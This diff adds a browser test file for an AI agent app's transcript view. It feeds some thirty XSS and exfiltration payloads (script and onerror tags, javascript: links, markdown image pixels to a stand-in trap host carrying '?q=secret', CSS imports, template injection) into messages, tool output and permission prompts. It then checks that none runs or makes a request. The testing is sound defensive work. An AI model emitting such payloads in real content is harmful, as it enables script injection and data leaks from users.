@@ -1,0 +1,139 @@
+/** Whatever a model, a tool or a file name says: no script, no request, no press that leaves the app unasked. Live and restored. */
+import { testIds } from '#renderer/ui/test-ids.ts'
+import { afterEach, beforeEach, expect, test } from 'vitest'
+import { chromiumMissing } from '../../helpers/chromium.ts'
+import { ScriptedHost } from '../../helpers/scripted-host.ts'
+import { waitUntil } from '../helpers.ts'
+import { openPage, useChromium, type OpenedPage } from './open-page.ts'
+
+const run = test.skipIf(chromiumMissing !== undefined && process.env['CI'] !== 'true')
+if (chromiumMissing !== undefined) console.log(chromiumMissing)
+else useChromium()
+
+const ID = 's_hostile000'
+const TRAP = 'https://trap.example/leak'
+const PAYLOADS = [
+  '<script>window.hit=1</script>',
+  '<img src=x onerror="window.hit=1">',
+  `<img src="${TRAP}">`,
+  `![pixel](${TRAP}?q=secret)`,
+  `![pixel][ref]\n\n[ref]: ${TRAP}`,
+  `<svg onload="window.hit=1"><image href="${TRAP}"/></svg>`,
+  `<iframe src="${TRAP}"></iframe>`,
+  `<style>@import url(${TRAP});</style>`,
+  `<link rel="stylesheet" href="${TRAP}">`,
+  `<video poster="${TRAP}"></video>`,
+  `<form action="${TRAP}"><button autofocus onfocus=window.hit=1>x</button></form>`,
+  '[click](javascript:window.hit=1)',
+  '[click](JaVaScRiPt:window.hit=1)',
+  '[click](java\tscript:window.hit=1)',
+  '[click](&#106;avascript:window.hit=1)',
+  '[click](vbscript:msgbox)',
+  '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)',
+  '[click](file:///etc/passwd)',
+  '<javascript:window.hit=1>',
+  `[a]: ${TRAP} "x" onmouseover="window.hit=1"\n\n[a]`,
+  '```html\n<script>window.hit=1</script>\n```',
+  '```"><script>window.hit=1</script>\ncode\n```',
+  '| <img src=x onerror=window.hit=1> |\n| --- |\n| <script>window.hit=1</script> |',
+  '{{ constructor.constructor("window.hit=1")() }}',
+  '<div v-html="1" @click="window.hit=1">{{ 7*7 }}</div>',
+  '# <a href="javascript:window.hit=1">x</a>',
+  `[![img](${TRAP})](javascript:window.hit=1)`,
+  '‮evil‬ \u0000 \u2028 text',
+]
+
+let host: ScriptedHost
+let opened: OpenedPage
+
+beforeEach(() => {
+  host = new ScriptedHost()
+  host.answer('workspace.recent', () => ({ workspaces: [{ path: '/w<img src=x onerror=window.hit=1>', openedAt: '', trusted: true }] }))
+})
+afterEach(async () => {
+  await opened.close()
+})
+
+/** Everywhere a foreign text can stand. */
+function fill(payload: string, index: number): void {
+  const turn = index + 1
+  const tool = `tc_${index}`
+  host.emit(
+    ID,
+    { event: 'user_message', messageId: `u${index}`, content: payload, turn },
+    { event: 'llm_response', iteration: 1, turn, content: payload, finishReason: 'tool_calls', usage: { inputTokens: 1, outputTokens: 1, totalTokens: 2 }, requestId: 'r', provider: 'p', model: payload, messageId: `a${index}`, durationMs: 1, thinking: { content: payload, status: 'complete', durationMs: 1, tokensUsed: 1 }, toolCalls: [{ id: tool, name: 'run_command', args: { command: payload }, iteration: 1, timestamp: 0 }] },
+    { event: 'tool_call', iteration: 1, turn, tool: 'run_command', args: { command: payload }, toolCallId: tool },
+    { event: 'tool_result', iteration: 1, turn, tool: 'run_command', success: false, durationMs: 1, result: payload, toolCallId: tool, outcome: 'error', error: payload, summary: payload },
+    { event: 'notice', code: 'strange', message: payload, turn },
+    { event: 'turn_end', turn, reason: 'failed', iterations: 1, durationMs: 1, error: { code: 'unknown', message: payload, provider: payload, retryable: false } },
+  )
+}
+
+async function harvest(): Promise<{ hit: unknown; faults: string[]; requests: string[]; links: (string | null)[]; calls: string[] }> {
+  // Everything that can be opened is opened, and every link pressed.
+  for (const button of await opened.page.locator(`[data-testid="${testIds.thinking}"] > button, [data-testid="${testIds.toolCard}"] > div > button`).all()) await button.click()
+  const links = await opened.page.locator(`[data-testid="${testIds.transcript}"] a`).all()
+  const addresses = await Promise.all(links.map((link) => link.getAttribute('href')))
+  return {
+    hit: await opened.page.evaluate(() => (globalThis as unknown as { hit?: unknown }).hit ?? null),
+    faults: await opened.faults(),
+    requests: opened.foreignRequests,
+    links: [...new Set(addresses)],
+    calls: host.calls.filter((call) => call.method === 'native.call').map((call) => JSON.stringify(call.params)),
+  }
+}
+
+const CLEAN = { hit: null, faults: [], requests: [], links: [`${TRAP}`], calls: [] }
+
+run('restored: no script, no request, no privileged call', async () => {
+  host.addSession(ID, '/w', { title: PAYLOADS[1] ?? '' })
+  PAYLOADS.forEach(fill)
+  opened = await openPage(host, { address: `#/session/${ID}` })
+  await opened.at(testIds.turnEnded).nth(PAYLOADS.length - 1).waitFor()
+  expect(await harvest()).toEqual(CLEAN)
+})
+
+run('streamed letter by letter: no script, no request, no privileged call', async () => {
+  host.addSession(ID, '/w', { title: 'live' })
+  host.emit(ID, { event: 'user_message', messageId: 'u', content: 'go', turn: 1 }, { event: 'iteration_start', iteration: 1, turn: 1 }, { event: 'tool_call', iteration: 1, turn: 1, tool: 'run_command', args: {}, toolCallId: 'tc_live' })
+  opened = await openPage(host, { address: `#/session/${ID}` })
+  await opened.at(testIds.toolCard).waitFor()
+  const text = PAYLOADS.join('\n\n')
+  for (let index = 0; index < text.length; index += 3) {
+    const delta = text.slice(index, index + 3)
+    host.emit(ID, { delta: 'stream', messageId: 'a', iteration: 1, event: { type: 'text_delta', delta } }, { delta: 'tool_output', toolCallId: 'tc_live', text: delta })
+  }
+  host.emit(ID, { event: 'permission_request', iteration: 1, turn: 1, tool: 'run_command', toolCallId: 'tc_ask', argumentsHash: 'h', display: text, risk: '<img src=x onerror=window.hit=1>', reason: text, grantPrefix: '<b>x</b>' })
+  await opened.page.locator(`[data-testid="${testIds.approvalAllowOnce}"]:enabled`).waitFor()
+  expect(await harvest()).toEqual(CLEAN)
+})
+
+run('a link is opened by the shell when it is pressed, with the address that was shown', async () => {
+  host.answer('native.call', () => ({ value: null }))
+  host.addSession(ID, '/w')
+  fill(`[words](${TRAP})`, 0)
+  opened = await openPage(host, { address: `#/session/${ID}` })
+  const link = opened.page.locator(`[data-testid="${testIds.messageAssistant}"] a`)
+  expect(await link.getAttribute('title')).toBe(TRAP)
+  await link.click()
+  await expect.poll(() => host.calls.filter((call) => call.method === 'native.call').map((call) => call.params), { timeout: 20_000 }).toEqual([{ method: 'openExternal', params: { url: TRAP } }])
+  expect([opened.foreignRequests, opened.context.pages().length]).toEqual([[], 1])
+})
+
+run('control: what got through would be seen', async () => {
+  host.addSession(ID, '/w')
+  opened = await openPage(host, { address: `#/session/${ID}` })
+  await opened.at(testIds.transcript).waitFor()
+  await opened.page.evaluate((trap) => {
+    const { document } = globalThis as unknown as { document: { body: { append(child: unknown): void }; createElement(name: string): { src: string; innerHTML: string } } }
+    const image = document.createElement('img')
+    image.src = trap
+    document.body.append(image)
+    try {
+      document.createElement('div').innerHTML = '<img src=x onerror="window.hit=1">'
+    } catch {
+      // Trusted Types: refused, and reported.
+    }
+  }, TRAP)
+  await waitUntil(async () => expect((await opened.faults()).map((fault) => fault.split(' ')[0]).sort()).toEqual(['img-src', 'require-trusted-types-for']))
+})
